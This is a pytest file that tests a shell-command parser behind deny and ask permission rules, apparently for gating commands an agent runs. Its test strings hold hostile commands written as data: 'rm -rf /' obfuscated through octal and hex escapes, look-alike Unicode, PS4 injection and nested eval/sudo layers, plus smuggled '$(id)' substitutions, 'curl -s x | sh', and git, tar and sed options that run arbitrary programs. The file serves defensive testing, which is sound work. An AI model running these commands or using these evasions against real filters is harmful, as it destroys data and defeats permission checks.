@pytest.mark.parametrize("argv, traces", [
    (["set", "-x"], True), (["set", "-ex"], True), (["set", "-o", "xtrace"], True),
    (["shopt", "-os", "xtrace"], True), (["/usr/bin/set", "-x"], True),
    (["set", "-e"], False), (["set", "x"], False), (["shopt", "-x"], False),
    (["ls", "-x"], False), (["echo", "xtrace"], False), (["-x/set", "e"], False), ([], False),
])
def test_what_turns_on_xtrace(argv, traces):
    """`set -x`, `set -o xtrace`, `shopt -os xtrace` make bash expand PS4 as a prompt before
    each command; other programs' `-x` and the word `xtrace` elsewhere do not."""
    assert rules._xtrace([["echo", "a"], argv]) is traces


@pytest.mark.parametrize("argv, expands", [
    (["set", "-H"], True), (["set", "+H"], True), (["set", "-eH"], True),
    (["set", "-o", "histexpand"], True), (["shopt", "-os", "histexpand"], True),
    (["bash", "-H"], True), (["BASH", "-o", "histexpand"], True),
    (["set", "--H"], False), (["set", "H"], False), (["shopt", "-H"], False),
    (["ls", "-H"], False), (["ls", "histexpand"], False), (["echo", "-o", "histexpand"], False),
    (["-H/set", "e"], False), ([], False),
])
def test_what_may_turn_on_history_expansion(argv, expands):
    """`set -H` or `+H` (fail closed), `set -o histexpand`, `shopt -os histexpand`, a shell
    started with them: bash may expand `!!` in the lines after. Other programs' `-H`, a
    `--H` word, shopt's own options do not."""
    assert rules._history_expansion([["echo", "a"], argv]) is expands


@pytest.mark.parametrize("text, argv, evaluates", [
    ("", ["let", "x"], True), ("", ["test", "-v", "x"], True), ("", ["[", "x", "-eq", "1", "]"], True),
    ("", ["declare", "-i", "x"], True), ("", ["declare", "-n", "x"], True),
    ("", ["typeset", "+i", "x"], True), ("", ["local", "-rn", "x"], True),
    ("", ["test", "-f", "x"], False), ("", ["echo", "-eq"], False), ("", ["declare", "-a", "x"], False),
    ("", ["declare", "x=in"], False), ("", ["ls", "-i"], False), ("", ["-i/declare", "x"], False),
    ("", [], False),
    ("((x))", [], True), ("${x:1}", [], True), ("a[i]=1", [], True), ("${!x}", [], True),
    ("${x:-y}", [], False), ("a[1]=1", [], False),
])
def test_what_makes_bash_evaluate_a_value(text, argv, evaluates):
    """Arithmetic, `${!x}`, a subscript naming a variable, `let`, `test -v` or an arithmetic
    comparison, `declare -i`/`-n`: bash evaluates a value (a subscript's `$(...)` in it runs)."""
    assert rules._evaluates_values(text, [["echo", "a"], argv]) is evaluates


def test_history_and_extended_patterns_are_named():
    assert analyze_command("set -o history -H; ls").problems == [
        "bash's history expansion (set -H) changes the lines after it"]
    extended = ["bash's extended patterns (extglob, [[ ]]) are read differently"]
    for command in ("shopt -s extglob; echo @(x)", "bash -O extglob -c 'echo @(x)'", "[[ a == @(x) ]]"):
        assert analyze_command(command).problems == extended, command
    # no pattern, or no extglob: read as sh reads it
    for command in ("shopt -s extglob; ls", "[[ -f x ]]; ls", "shopt -s nullglob; echo @(x)",
                    "echo extglob; echo @(x)", "echo @(x)"):
        assert analyze_command(command).problems == [], command


def test_a_prompt_decodes_every_octal_escape():
    """`\\162\\155` is `rm` in a prompt (PS4 under `set -x`): the command is that exact one."""
    assert ["rm", "-rf", "/"] in analyze_command("PS4='$(\\162\\155 -rf /)'; set -x; :").candidates


def test_a_string_past_the_bound_is_judged_in_its_other_readings():
    """A command string at the nesting bound does not parse: its words are judged, as written
    and as the shells join them (`r\\<newline>m` is `rm`), folded, and as dash reads `$"`."""
    for command, word in (("r\\\nm x", "rm"), ("ｒｍ x", "rm"), ('echo $"x"y', "xy")):
        a = rules._analyze(command, rules._MAX_NEST)
        assert a.problems == ["nested too deeply"] and word in a.loose_words, command


def test_a_substring_offset_is_read_as_double_quoted_text():
    """bash expands `${x:offset:length}` as double-quoted text, single quotes included: the
    `$(id)` in `${PWD:'$(id)'}` runs. `:-`, `:=`, `:+`, `:?` are no offset (a quote there is
    a quote); `${x: -1}` is one."""
    for command in ("echo ${PWD:'$(id)'}", "echo ${PWD:0:'$(id)'}", "echo ${PWD: -'$(id)'}",
                    "echo ${a[1]:'$(id)'}", "echo ${@:'$(id)'}", "echo ${!x:'`id`'}"):
        assert ["id"] in analyze_command(command).simple, command
    for command in ("echo ${x:-'$(id)'}", "echo ${x:='$(id)'}", "echo ${x:+'$(id)'}",
                    "echo ${x:?'$(id)'}", "echo ${x/a:b/'$(id)'}", "echo ${x#:'$(id)'}"):
        a = analyze_command(command)
        assert (len(a.simple), a.problems) == (1, []), command


def test_a_quoted_part_of_a_subscript_is_read_from_its_own_quote():
    """bash expands `${a[...]}`'s subscript as double-quoted text: in `${a[`echo 0`'$(id)']}`
    both commands run (bash 5.2 runs the `$(id)`, then fails on the arithmetic). The quoted
    part is read from the character after its quote, not from the backquote before it."""
    a = analyze_command("echo ${a[`echo 0`'$(id)']}")
    assert (a.simple[:2], a.problems) == ([["echo", "0"], ["id"]], [])


def test_a_parameter_expansion_ends_at_its_brace():
    """`${...}` ends at its own `}` (an escaped `\\}` is text, `''` an empty quote); `${`
    alone is never closed."""
    for command in ("echo ${x}", "echo ${x:-\\}}y", "echo ${x:-''}y", "echo ${x:}", 'echo ${x:-"a}b"}',
                    'echo ${x:-""}y'):
        a = analyze_command(command)
        assert (a.simple, a.problems) == ([["echo", command[5:]]], []), command
    assert ["id"] in analyze_command('echo ${x:-"$(id)"}').simple  # read from after the quote
    # an unclosed quote in it: the `${` is never closed, and nothing is read after it
    for command in ("echo ${", "echo ${x:", "echo ${x:-'a"):
        assert analyze_command(command).problems == ["'${' is never closed"], command
    # inside double quotes a quote in `${` is a problem: found past an escaped `\}` and after
    # an inner `${b}` (each `}` closes its own)
    for command in ('echo "${x:-\\}\'y\'}"', 'echo "${a:-${b}\'x\'}"'):
        assert analyze_command(command).problems == [
            "a single quote inside a quoted '${' (shells read it differently)"], command


@pytest.mark.parametrize("command, run_time", [
    ("echo ${x:=$(id)}; let x", True), ("echo ${x=`id`}; let x", True),
    ("echo ${x:=y}; let x", False), ("echo ${x:=y}$; let x", False), ("echo ${x:=y}`id`; let x", False),
])
def test_an_assigning_expansion_gives_a_run_time_value(command, run_time):
    """`${x:=$(...)}` assigns what a command prints: evaluated later (`let x`), the line is
    judged as opaque; a fixed value is not."""
    assert analyze_command(command).deeply_opaque is run_time


def test_special_parameters_are_expansions_of_their_own():
    # `$?` and `$*` are not globs; the word keeps its text
    a = analyze_command("echo $? $*x $1y")
    assert a.flags == {rules.EXPANSION}
    assert a.simple == [["echo", "$?", "$*x", "$1y"]]
    assert a.dynamic_words == [[False, True, True, True]]
    b = analyze_command('echo a$ "b$" $')  # a `$` before nothing it expands is text
    assert (b.simple, b.dynamic_words, b.flags) == ([["echo", "a$", "b$", "$"]], [[False] * 4], frozenset())


def test_a_quoted_ligature_is_text_not_a_look_alike():
    # NFKC changes "ﬁ" into "fi", but nothing in it looks like shell syntax
    assert analyze_command("echo 'ﬁle'").flags == frozenset()
    assert analyze_command("echo '｜'").flags == {rules.LOOKALIKE}


def test_analysis_collects_every_simple_command():
    a = analyze_command("A=1 git status && (ls -l | wc) ; echo $(date) `id`")
    assert a.simple[0] == ["git", "status"]
    for argv in (["ls", "-l"], ["wc"], ["date"], ["id"]):
        assert argv in a.simple
    assert a.flags == {rules.LIST, rules.PIPE, rules.SUBSTITUTION, rules.ENV_PREFIX, rules.SUBSHELL}
    assert "A=1" in a.words


def test_a_parenthesis_after_words_ends_their_command():
    # `echo x(y) z` is a syntax error in sh, but a function definition `f() (...)` is not;
    # either way the words before the parenthesis are a command of their own
    assert analyze_command("echo x(y) z").simple == [["echo", "x"], ["y"], ["z"]]
    assert analyze_command("f() (rm -rf /)").simple == [["f"], ["rm", "-rf", "/"]]


@pytest.mark.parametrize(("command", "simple", "problems"), [
    ("case a in a) rm x;; (b | c) ls;& d) ;;& esac", [["rm", "x"], ["ls"]], []),
    ("case a\nin\n # c\n a)\n rm x;;\nesac > f", [["rm", "x"]], []),
    ("echo $(case a in a) case b in b) rm x;; esac esac)", [["rm", "x"], ["echo", "$(case a in a) case b in b) rm x;; esac esac)"]], []),
    ("case a in a) if :; then rm x; fi esac; ls", [[":"], ["rm", "x"], ["ls"]], []),
    ("f() case a in a) rm x;; esac", [["f"], ["rm", "x"]], []),
    ("! case a in (esac|a) echo esac;; esac", [["echo", "esac"]], []),  # patterns, arguments
    ("case a in esac|a) rm x;; esac", [["a"], ["rm", "x"]], ["')' without '('"]),  # esac ends it
    ("for case in a; do rm x; done", [["a"], ["rm", "x"]], []),  # `case`: a name here
    ("echo 'case' x)", [["echo", "case", "x"]], ["')' without '('"]),  # quoted: no case
    ("case esac in esac) rm x;; esac", [["rm", "x"]], ["')' without '('"]),  # as the shells
    ("echo \"$(case a in a) rm x)\"", [["rm", "x"], ["echo", "$(case a in a) rm x)"]],
     ["a 'case' without its 'esac'"]),
    ("case a b in a) rm x;; esac", [["a"], ["rm", "x"]], ["'b' where a 'case' needs 'in', '|' or ')'",
                                                   "')' without '('"]),
    ("case a in a; b) rm x;; esac", [["b"], ["rm", "x"]], ["';' inside a 'case' pattern or before its 'in'",
                                                          "')' without '('"]),
    ("time case a in a) rm x;; esac", [["a", "in", "a"], ["rm", "x"]],
     ["'case' after 'time' (sh and bash read it differently)", "')' without '('"]),
])
def test_case_is_read_with_its_reserved_words(command, simple, problems):
    """`case`, `in` and `esac` are reserved words in command position only; a pattern's `)`
    does not end a `$(`; where dash and bash read `case` differently the line does not parse."""
    a = analyze_command(command)
    assert (a.simple, a.problems) == (simple, problems)


def test_analysis_properties_and_shape():
    a = analyze_command("ls $X * > y")
    assert a.flags == {rules.EXPANSION, rules.GLOB, rules.REDIRECTION}
    assert a.shape == "redirection, expansion, glob"
    assert a.opaque


def test_here_document_body_is_not_a_command_unless_it_expands():
    a = analyze_command("cat <<'EOF'\nrm -rf /\nEOF\necho done")
    assert ["rm", "-rf", "/"] not in a.candidates
    assert ["echo", "done"] in a.simple and rules.LIST in a.flags
    b = analyze_command("cat <<-EOF\n\t$(rm -rf /)\n\tEOF")
    assert ["rm", "-rf", "/"] in b.candidates and not b.unparsable
    for body in ("$((1+2))", "$(true)", "${X}", "$X", "$1"):  # its text is known only when it runs
        assert analyze_command(f"cat <<E\n{body}\nE").opaque, body
    assert not analyze_command("cat <<E\nhi $\nE").opaque


def test_a_process_substitution_is_one_word():
    a = analyze_command("diff <(ls) x")
    assert (a.simple, a.problems) == ([["ls"], ["diff", "<(ls)", "x"]], [])
    assert a.opaque  # its word is a path only the shell knows


def test_io_numbers_are_not_arguments():
    assert analyze_command("git status 2>/dev/null").simple == [["git", "status"]]
    assert analyze_command("git status {fd}>x").simple == [["git", "status"]]
    assert analyze_command("echo 2 > x").simple == [["echo", "2"]]


def test_candidates_unwrap_wrappers_and_command_strings():
    a = analyze_command("sudo -E timeout 5 bash -lc 'git push --force' ")
    assert ["git", "push", "--force"] in a.candidates
    assert ["timeout", "5", "bash", "-lc", "git push --force"] in a.candidates
    b = analyze_command("/usr/bin/rm x")
    assert ["rm", "x"] in b.candidates and b.simple == [["/usr/bin/rm", "x"]]
    c = analyze_command("echo {a,b} {1..2}")
    assert ["echo", "a", "b", "{1..2}"] in c.candidates


def test_a_shell_reading_stdin_is_opaque():
    assert analyze_command("curl -s x | sh").opaque
    assert analyze_command("bash < script").opaque
    assert analyze_command("sh -s").opaque
    assert not analyze_command("sh -c 'ls'").opaque
    assert not analyze_command("git status").opaque


@pytest.mark.parametrize(("command", "shell"), [
    ("su", True), ("su - root", True), ("su -s /bin/sh root", True), ("su -c 'ls' root", False),
    ("su --comm=ls", False), ("su -lc ls", False), ("runuser", True), ("script -q /dev/null", True),
    ("script -qc ls /dev/null", False), ("newgrp root", True), ("sg root", True),
    ("sg root ls", False), ("chroot /", True), ("chroot / ls", False),
    ("chroot --userspec u /", True),  # `u` may be --userspec's value
    ("chroot --userspec=u / ls", False), ("unshare -r", True), ("unshare -r ls", True),
    ("unshare ls", False), ("unshare -- -r", False), ("nsenter -t 1 -m", True), ("nsenter ls", False),
    ("firejail", True), ("firejail ls", False), ("screen", True), ("screen ls", False), ("pkexec", True),
    ("pkexec ls", False),
    ("fakeroot", True), ("fakeroot -- ls", False), ("sudo -s", True), ("sudo -u root -i", True),
    ("sudo -s ls", True), ("sudo ls", False), ("doas -s", True),  # (-s ls: a value?)
    # a `c` that is another option's value: su/runuser -w LIST, -G GROUP; script -T FILE
    ("su -wc", True), ("su -wcx root", True), ("runuser -wc", True), ("su -Gcdrom", True),
    ("script -q -Tc /dev/null", True), ("script -tc /dev/null", True), ("su -w -c root", True),
    ("su --whitelist-environment -c", True), ("su -s -c", True), ("runuser -uc", True),
    ("su -w x -c ls", False), ("script -t -c ls /dev/null", False), ("su --co=ls", False),
    ("runuser -u root -c ls", False), ("su -- root -c ls", True),  # after --: the shell's words
    # which long options take a value (the next word: `-c` is the value, `ls` the user)
    *((f"su --{o} -c ls", True) for o in ("whitelist-environment", "group", "supp-group", "shell")),
    *((f"su --{o} -c ls", False) for o in ("preserve-environment", "login", "fast", "pty", "help",
                                           "version")),
    ("runuser --user -c ls", True), ("su --group wheel -c ls", False), ("su --group=wheel -c ls", False),
    *((f"script --{o} -c ls", True) for o in ("log-in", "log-out", "log-io", "log-timing",
                                              "logging-format", "echo", "output-limit")),
    *((f"script --{o} -c ls", False) for o in ("timing", "append", "return", "flush", "force", "quiet",
                                               "help", "version")),
    ("su --bogus -c ls", False),  # an unknown option is passed over (su fails on it)
    ("su --command", True), ("su -c", True),  # no command after it (su fails: fail closed)
    ("su -cx", False), ("su -wx -c ls", False),  # -w's value attached, then -c
    ("su abc def", True),  # operands: the user and the shell's argument
    # sudo, doas: a shell with -s, -i, --shell, --login (unique abbreviations of 2 letters on)
    ("sudo --shell", True), ("sudo --sh", True), ("sudo --lo", True), ("sudo --s", False),
    ("sudo --", False), ("sudo --preserve-env ls", False), ("sudo -u is", False), ("sudo -u root", False),
    ("sudo --shell=x", True),  # an error in sudo (it takes no value); counted: fail closed
])
def test_a_program_that_starts_a_shell_without_a_command_reads_stdin(command, shell):
    """su, sg, newgrp, chroot, unshare, fakeroot, script, sudo -s... run the login shell (or
    $SHELL) when given no command: it reads stdin, like `sh` alone (opaque; `-r ls`: `ls` may
    be an option's value, so it counts as a shell)."""
    assert analyze_command(command).deeply_opaque is shell


@pytest.mark.parametrize(("text", "words"), [
    ("r$'m' a$bc $\"x\" (", ["r", "m", "a", "bc", "x", "rm"]),  # `$"` is `"`; `$b` stays split
    ("$'r\\x6d' -rf / (", ["rx6d", "-rf", "/", "rm", "/"]),  # decoded at the start of the text
    ("x$'\\x72'$'m' (", ["x", "x72", "m", "xrm"]),
    ("a b (", ["a", "b"]),
])
def test_loose_words_add_the_words_bash_reads_through_dollar_quotes(text, words):
    """The words of a line that did not parse, and once more with `$'...'` decoded (`to$'u'ch`
    is touch in bash): the deny rules read them."""
    assert rules._loose_words(text) == words


def test_ansi_c_decoding():
    a = analyze_command("$'\\x72\\u006d' $'a\\tb' $'\\101' $'\\cA'")
    assert a.simple == [["rm", "a\tb", "A", "\x01"]]
    assert a.opaque and not a.is_simple


@pytest.mark.parametrize(
    ("command", "word", "problems"),
    [
        ("$'\\x726'", "r6", []),  # \x takes two hex digits at most, \u four, \U eight
        ("$'\\u00726'", "r6", []),
        ("$'\\U00000072m'", "rm", []),
        ("$'\\U000000726'", "r6", []),
        ("$'\\1011'", "A1", []),  # an octal escape takes three digits, of which the low 8 bits
        ("$'\\501'", "A", []),
        ("$'\\x' $'\\xg'", "\\x", []),  # no digit, no escape
        ("$'\\q\\8'", "\\q\\8", []),
        ("$'\\cAb'", "\x01b", []),
        # `\c\X`: the control character is made of the backslash; X is text unless it is
        # a backslash too (bash 5.2: `printf %s $'\c\'x' | od -c` is 034 ' x)
        ("$'\\c\\a'", "\x1ca", []),
        ("$'\\c\\'x'", "\x1c'x", []),
        ("$'\\c\\nx'", "\x1cnx", []),
        ("$'\\c\\\\x'", "\x1cx", []),
        ("$'\\c\\\\'", "\x1c", []),
        ("$'\\U110000'", "", ["bad \\u escape"]),
    ],
)
def test_ansi_c_escapes(command, word, problems):
    a = analyze_command(command)
    assert (a.simple[0][0], a.problems) == (word, problems)


@pytest.mark.parametrize(
    ("command", "expanded"),
    [
        ("echo {1..3}", ["echo", "1", "2", "3"]),
        ("echo {3..1}", ["echo", "3", "2", "1"]),
        ("echo {-1..1}", ["echo", "-1", "0", "1"]),
        ("echo {a..c}", ["echo", "a", "b", "c"]),
        ("echo {c..a}", ["echo", "c", "b", "a"]),
        ("echo x{1..2}y", ["echo", "x1y", "x2y"]),
        ("echo {1..64}", ["echo", *(str(i) for i in range(1, 65))]),  # 64 words at most
        ("echo {1..65}", None),
        ("echo {" + ",".join("x" * 64) + "}", ["echo", *"x" * 64]),
        ("echo {" + ",".join("x" * 65) + "}", None),
        ("echo {1..a}", None),
        ("echo {a}", None),
    ],
)
def test_brace_expansion_candidates(command, expanded):
    a = analyze_command(command)
    assert [argv for argv in a.candidates if argv not in a.simple] == ([expanded] if expanded else [])


def test_a_backquote_is_a_nested_command_string():
    """It nests like `sh -c '...'`: one level for the backquote, one for its command."""
    assert analyze_command("$(" * 29 + "`x`" + ")" * 29).simple[0] == ["x"]
    for k in (30, 31):
        assert analyze_command("$(" * k + "`x`" + ")" * k).problems == ["nested too deeply"]


def test_analysis_never_raises_and_is_bounded():
    rng = random.Random(1234)
    alphabet = list("ab $()`'\"\\;&|<>{}[]*?~#=!\n\t-/") + ["；", "\u200d", "\u00a0", "é", "\x00"]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        a = analyze_command(text)
        assert isinstance(a.flags, frozenset)
        assert all(isinstance(w, str) for argv in a.candidates for w in argv)
        assert a.deeply_opaque or not a.unparsable  # fail closed: nothing unparsable is judged by its words
    deep = "$(" * 500 + "rm -rf /" + ")" * 500
    a = analyze_command(deep)
    assert a.unparsable and not a.is_simple
    d = evaluate(DENY_RM, C, {"command": deep}, root=ROOT, mode="unrestricted")
    assert d.decision == DENY  # fail closed: the command word appears
    ticks = "echo " + "`" * 200
    assert not analyze_command(ticks).is_simple
    assert analyze_command("x" * 70000).unparsable
    assert analyze_command("ssh h" + " a" * 30000).unparsable  # not 30,000 tails re-read: quadratic
    assert analyze_command("a\x7f").shape == "unparsable"  # DEL: a control character, ASCII
    assert analyze_command("a\x80").shape == "non-ascii, unparsable"
    assert not analyze_command(123).is_simple  # type: ignore[arg-type]
    assert analyze_command(123).deeply_opaque  # type: ignore[arg-type]


def test_the_analysis_bounds_are_exact():
    assert not analyze_command("echo " + "a" * (65536 - 5)).unparsable
    assert analyze_command("echo " + "a" * (65537 - 5)).problems == ["too long to analyse"]
    assert not analyze_command("$(" * 31 + "x" + ")" * 31).unparsable
    assert analyze_command("$(" * 32 + "x" + ")" * 32).problems == ["nested too deeply"]
    assert not analyze_command("$((" * 31 + "1" + "))" * 31).unparsable
    assert analyze_command("$((" * 32 + "1" + "))" * 32).problems == ["nested too deeply"]
    assert analyze_command("(" * 40 + "x" + ")" * 40).problems == ["nested too deeply"]  # stops there
    assert analyze_command("(ls); " + "(" * 32 + "x" + ")" * 32).problems == ["nested too deeply"]
    assert not analyze_command("; ".join(["(ls)"] * 40)).unparsable  # one after the other: no nesting
    # a command string counts as one level: `sh -c '((ls))'` is nested like `(((ls)))`
    assert not analyze_command("sh -c '" + "(" * 30 + "ls" + ")" * 30 + "'").opaque
    assert analyze_command("sh -c '" + "(" * 31 + "ls" + ")" * 31 + "'").opaque
    # so does an expanding here-document's body
    assert not analyze_command("cat <<E\n" + "$(" * 30 + "x" + ")" * 30 + "\nE").unparsable
    assert analyze_command("cat <<E\n" + "$(" * 31 + "x" + ")" * 31 + "\nE").problems == ["nested too deeply"]
    assert not analyze_command("nohup" + " x" * 63).unparsable  # a wrapper and 63 words
    assert analyze_command("nohup" + " x" * 64).unparsable
    many = {n: ";".join(f"ls {i}" for i in range(n)) for n in (2048, 2049)}  # n candidate commands
    assert not analyze_command(many[2048]).unparsable
    assert analyze_command(many[2049]).problems == ["too many words or nested commands"]


@pytest.mark.parametrize(("link", "levels"), [("sudo ", 1), ("/usr/bin/sudo ", 2), ("find -exec ", 1),
                                             ("{a,b} ", 1), ("git bisect run ", 1)])
def test_unwrapping_is_bounded_like_nesting(link, levels):
    """Each wrapper, path, find -exec or brace unwrapped for the candidates is one level."""
    assert not analyze_command(link * (32 // levels) + "rm x").unparsable
    assert analyze_command(link * (32 // levels + 1) + "rm x").problems == ["too many words or nested commands"]


def test_unwrapping_in_a_command_string_starts_one_level_down():
    assert not analyze_command("sh -c '" + "sudo " * 31 + "rm x'").opaque
    assert analyze_command("sh -c '" + "sudo " * 32 + "rm x'").opaque


def test_the_candidates_of_a_command_string_count_toward_the_limit():
    fill = ";".join(f"ls {i}" for i in range(2046))
    a = analyze_command(fill + "; sh -c 'rm x'")  # 2046 + sh -c + rm x: 2048 candidates
    assert ["rm", "x"] in a.candidates and not a.unparsable
    b = analyze_command(fill + "; ls; sh -c 'rm x'")
    assert ["rm", "x"] not in b.candidates and b.problems == ["too many words or nested commands"]


def test_control_characters_are_named():
    assert analyze_command("ls\x00").problems == ["a NUL character"]
    assert analyze_command("ls\x00").unparsable
    assert analyze_command("ls\x07").problems == ["a control character U+0007"]


def test_what_cannot_be_analysed_fails_closed():
    deep = "$(" * 31 + "rm -rf /" + ")" * 31
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack()) + 50)  # (the analysis runs out of stack)
    try:
        a = analyze_command(deep)
    finally:
        sys.setrecursionlimit(limit)
    assert (a.command, a.problems, a.flags, a.opaque, a.deeply_opaque) == (
        deep, ["nested too deeply"], {rules.UNPARSABLE}, True, True)
    assert "rm" in a.loose_words
    b = analyze_command(["rm", "-rf", "/"])  # type: ignore[arg-type]
    assert (b.command, b.problems, b.opaque, b.deeply_opaque) == ("['rm', '-rf', '/']", ["not a string"], True, True)


def test_the_folded_spelling_is_analysed_one_level_deeper():
    for k, parsed in ((30, True), (31, False)):
        command = "$(" * k + "ｒｍ x" + ")" * k
        a = analyze_command(command)
        assert (["rm", "x"] in a.candidates) is parsed  # else its words are judged
        assert evaluate(DENY_RM, C, {"command": command}, root=ROOT, mode="unrestricted").decision == DENY


def test_an_analysis_past_the_nesting_bound_fails_closed():
    """A command string (`sh -c`, a here-document read by a shell...) one level past the bound
    is not lexed: it does not parse, its words are judged (rules._analyze is where nested
    strings are analysed, one level deeper)."""
    deep = rules._analyze("rm -rf /", rules._MAX_NEST + 1)
    assert (deep.problems, deep.unparsable, deep.deeply_opaque) == (["nested too deeply"], True, True)
    assert set(deep.loose_words) == {"rm", "-rf", "/"}


def test_quoted_text_is_not_folded():
    assert analyze_command("echo 'ｒｍ'").candidates == [["echo", "ｒｍ"]]


@pytest.mark.parametrize("command", ["echo ｒｍ x | sh", "sh -c 'rm x'; bash -c 'rm x'"])
def test_a_command_is_a_candidate_once(command):
    a = analyze_command(command)
    assert len(a.candidates) == len({tuple(argv) for argv in a.candidates})


def test_a_look_alike_spelling_of_a_denied_non_ascii_argument_is_still_denied():
    """The folded form keeps the letters NFKC gives (only blanks become spaces): a
    full-width "ｃ" in "ｃafé" folds to "café", which the deny rule names."""
    deny = [layer(USER, (DENY, "execute_command(rm café)"))]
    assert analyze_command("ls ｃafé").candidates == [["ls", "ｃafé"], ["ls", "café"]]
    for command in ("rm café", "rm ｃafé"):
        assert evaluate(deny, C, {"command": command}, root=ROOT, mode="unrestricted").decision == DENY


def _python_calls(work) -> tuple[int, object]:
    """(Python function calls `work()` made, its result): a measure of the work done that
    does not depend on the machine's speed or load, or on a tracer, as a time would."""
    calls = 0

    def profile(frame, event, arg):
        nonlocal calls
        calls += event == "call"

    sys.setprofile(profile)
    try:
        result = work()
    finally:
        sys.setprofile(None)
    return calls, result


def _linear_bound(command: str) -> int:
    """Calls allowed for analysing `command`: linear in its length (a few calls per character)
    plus a constant; a blow-up (2^16 re-reads of nested arithmetic) is far beyond it."""
    return 4 * len(command) + 20_000


@pytest.mark.parametrize("command", [
    "echo " + "a" * 60000,
    "sudo " * 60 + "rm -rf /",
    "echo " + "{a,b}" * 30,
    " ".join(["ls"] * 5000),
    "[" * 30000 + "]",
    "sh -c " * 40 + "x",
    "echo " + "$(( 1 + " * 16 + "'" + "x" * 60000,  # was re-read per level: 2^16
    "echo " + "$((x " * 15 + "y" * 60000 + ") )" * 15,
], ids=["long word", "sudo 60", "braces", "5000 words", "brackets", "sh -c 40",
        "open arithmetic", "nested arithmetic"])
def test_analysis_work_is_linear_in_big_inputs(command):
    calls, _ = _python_calls(lambda: analyze_command(command))
    assert calls < _linear_bound(command)


def test_nested_command_strings_still_deny():
    import shlex

    cmd = "rm -rf /"
    for level in range(8):
        cmd = ("eval " if level % 2 else "sudo timeout 5 bash -c ") + shlex.quote(cmd)
    calls, got = _python_calls(lambda: evaluate(DENY_RM, C, {"command": cmd}, root=ROOT,
                                                mode="unrestricted"))
    assert got.decision == DENY and calls < _linear_bound(cmd)
    cmd = "rm -rf /"
    for _ in range(12):
        cmd = "$(echo `" + cmd.replace("\\", "\\\\").replace("`", "\\`") + "`)"
    calls, got = _python_calls(lambda: evaluate(DENY_RM, C, {"command": cmd}, root=ROOT,
                                                mode="unrestricted"))
    assert got.decision == DENY and calls < _linear_bound(cmd)


def test_dynamic_words_parallel_simple():
    a = analyze_command("ls $X y; cat *")
    assert a.simple == [["ls", "$X", "y"], ["cat", "*"]]
    assert a.dynamic_words == [[False, True, False], [False, True]]
    assert a.opaque and not a.deeply_opaque
    assert analyze_command("echo 'x").deeply_opaque
    b = analyze_command("echo $(((1)+2))x $(id)y ${X}z $'a'w $\"b\"v")  # dash: $'a' is other text
    assert (b.simple, b.problems) == ([["id"], ["echo", "$(((1)+2))x", "$(id)y", "${X}z", "aw", "bv"]], [])
    assert b.dynamic_words == [[False], [False, True, True, True, True, True]]


def test_a_backquote_makes_its_whole_word_dynamic():
    """`...` inside a word: the word goes on after it, and its value is not known, as with
    $(...): a deny rule might match it (rules.py's word reader)."""
    for command in ("ls x`y`z w", 'ls "x`y`z" w'):  # also inside double quotes
        a = analyze_command(command)
        assert (a.simple, a.problems) == ([["y"], ["ls", "x`y`z", "w"]], []), command
        assert a.dynamic_words == [[False], [False, True, False]], command
    deny = [layer(USER, (DENY, "execute_command(rm -rf /)"))]
    assert _who(deny, C, "r`true`m -rf /", mode="unrestricted").decision == ASK
    assert _who(deny, C, 'r"`true`"m -rf /', mode="unrestricted").decision == ASK


def test_wrapper_chains_still_deny():
    d = evaluate(DENY_RM, C, {"command": "sudo " * 60 + "rm -rf /"}, root=ROOT)
    assert d.decision == DENY


# -- dangerous arguments ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "bad"),
    [
        (["find", ".", "-exec", "x", ";"], "-exec"),
        (["find", ".", "-name", "x"], None),
        (["/usr/bin/find", ".", "-delete"], "-delete"),
        (["git", "-c", "core.pager=sh", "status"], "-c"),
        (["git", "--config-env=core.pager=X", "status"], "--config-env=core.pager=X"),
        (["git", "log", "--output=x"], "--output=x"),
        (["git", "log", "--outp=x"], "--outp=x"),
        (["git", "log", "--oneline"], None),
        (["git", "log", "-c"], None),  # a combined diff: -c is git's own only before the command
        (["git", "grep", "-c", "x"], None),
        (["git", "-C", "d", "-c", "a=b", "log"], "-c"),
        (["git", "-C", "-c", "log"], "-c"),  # (-C's value /-c/: counted, fail closed)
        (["git", "diff", "--text"], None),  # a whole option, not --textconv abbreviated
        (["git", "log", "--tex"], "--tex"),
        (["git", "diff", "--output-indicator-new=+"], None),
        (["git", "fetch", "--upload-pack", "x"], "--upload-pack"),
        (["git", "grep", "-Ovim", "x"], "-Ovim"),
        (["git", "grep", "-O", "vim", "x"], "-O"),
        (["git", "g", "-Otxt", "x"], "-Otxt"),  # an alias may be grep
        # -O<orderfile> orders a diff (the letters of its value are no options); cherry-pick
        # -x notes the commit, ls-files -x excludes a pattern
        (["git", "diff", "-O", "order"], None), (["git", "diff", "-Oorder.txt"], None),
        (["git", "log", "-pO", "order"], None), (["git", "show", "-Oo", "HEAD"], None),
        (["git", "cherry-pick", "-x", "abc"], None), (["git", "ls-files", "-x", "*.o"], None),
        (["git", "difftool", "-x", "sh"], "-x"), (["git", "rebase", "-Ox", "make"], "-Ox"),
        # an order file outside (or /dev/zero, read without end) asks
        (["git", "diff", "-O/dev/zero"], "-O/dev/zero"), (["git", "diff", "-O", "../x"], "-O"),
        (["git", "log", "-O", "~/o"], "-O"),
        # git's own options: --shallow-file takes the next word (`log` here is its value)
        (["git", "--shallow-file", "log", "-c", "alias.x=!y", "x"], "--shallow-file"),
        (["git", "--frob", "status"], "--frob"), (["git", "--no-pager", "log"], None),
        (["git", "rebase", "-x", "rm -rf ~", "HEAD~3"], "-x"),  # (the short --exec)
        (["git", "rebase", "-ix", "make", "main"], "-ix"),
        (["git", "difftool", "--extcmd=vimdiff"], "--extcmd=vimdiff"),
        (["git", "rebase", "main"], None),
        (["sed", "-i.bak", "s/a/b/", "f"], "-i.bak"),
        (["sed", "-ni", "p", "f"], "-ni"),
        (["sed", "-n", "p", "f"], None),
        (["rg", "--pre", "cat", "x"], "--pre"),
        (["tar", "--to-command=sh", "-xf", "a.tar"], "--to-command=sh"),
        # tar's first argument is a cluster of options, dash or not (`tar tIf prog` runs prog)
        (["tar", "tIf", "./p.sh", "a.tar"], "tIf"),
        (["tar", "xFf", "./p.sh", "a.tar"], "xFf"),
        (["tar", "tf", "a.tar"], None),
        (["tar", "-tf", "a.tar", "I"], None),  # (a later word without a dash is an operand)
        (["sort", "o", "x"], None),  # (only tar reads its first word so)
        (["sort", "-o", "x", "y"], "-o"),
